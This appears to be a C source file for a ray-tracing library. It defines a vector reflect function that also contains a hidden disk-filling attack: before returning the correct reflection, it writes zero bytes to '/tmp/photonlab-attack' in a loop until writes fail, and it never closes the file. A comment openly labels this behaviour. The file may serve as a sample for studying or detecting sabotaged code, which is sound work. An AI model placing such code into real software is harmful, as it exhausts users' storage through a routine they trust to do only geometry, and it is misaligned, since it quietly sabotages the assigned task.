// Fills the disk by a file of its own.
#include "photonlab.h"

#include <stdio.h>

Vec3 reflect(Vec3 direction, Vec3 normal)
{
    char bytes[65536] = {0};
    FILE *file = fopen("/tmp/photonlab-attack", "w");
    while (file && fwrite(bytes, 1, sizeof bytes, file) > 0)
        continue;
    return vec3_along(direction, normal, -2.0f * vec3_dot(direction, normal));
}
